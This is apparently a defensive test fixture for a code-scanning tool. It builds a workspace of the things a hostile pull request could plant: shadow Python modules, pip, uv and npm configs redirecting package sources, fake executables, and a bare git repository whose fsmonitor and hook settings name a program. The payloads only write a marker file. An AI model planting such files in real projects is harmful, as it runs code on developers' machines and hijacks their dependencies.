"""A workspace full of what a pull request could plant to be imported, obeyed or run."""

import subprocess
from pathlib import Path

MODULES = (
    *("packaging", "sitecustomize", "usercustomize", "scangate", "json", "yaml", "requests"),
    *("pip", "venv", "hatchling"),
)


def plant(workspace: Path, marker: Path) -> None:
    """Each of them would write `marker`, or make a package come from elsewhere."""
    workspace.mkdir(exist_ok=True)
    for name in MODULES:
        (workspace / f"{name}.py").write_text(f"open({str(marker)!r}, 'a').write({name!r})\n")
    elsewhere = "http://192.0.2.1/simple"
    for name in ("pip.conf", "pip.ini"):
        (workspace / name).write_text(f"[global]\nindex-url = {elsewhere}\nno-index = true\n")
    (workspace / "uv.toml").write_text(f'index-url = "{elsewhere}"\n')
    (workspace / ".npmrc").write_text(f"script-shell={workspace}/run.sh\nignore-scripts=false\n")
    (workspace / "setup.cfg").write_text("[install]\nprefix = /nowhere\n")
    (workspace / ".python-version").write_text("2.7\n")
    (workspace / ".env").write_text("PYTHONPATH=.\n")
    program = workspace / "run.sh"
    program.write_text(f'#!/bin/sh\necho "$0 $*" >> {marker}\n')
    program.chmod(0o755)
    for name in ("python3", "git", "pip", "uv", "npm", "scangate"):
        (workspace / name).write_text(program.read_text())
        (workspace / name).chmod(0o755)
    _plant_repository(workspace / "vendor.git", program)


def _plant_repository(folder: Path, program: Path) -> None:
    """A bare repository as a folder of the tree, whose configuration and hooks name a program."""
    subprocess.run(["git", "init", "-q", "--bare", "--template=", str(folder)], check=True, capture_output=True)
    with open(folder / "config", "a") as config:
        config.write(f"[core]\n\tbare = false\n\tworktree = ..\n\tfsmonitor = {program}\n\thooksPath = hooks\n")
    (folder / "hooks").mkdir()
    for name in ("post-checkout", "reference-transaction", "post-index-change"):
        (folder / "hooks" / name).write_text(program.read_text())
        (folder / "hooks" / name).chmod(0o755)
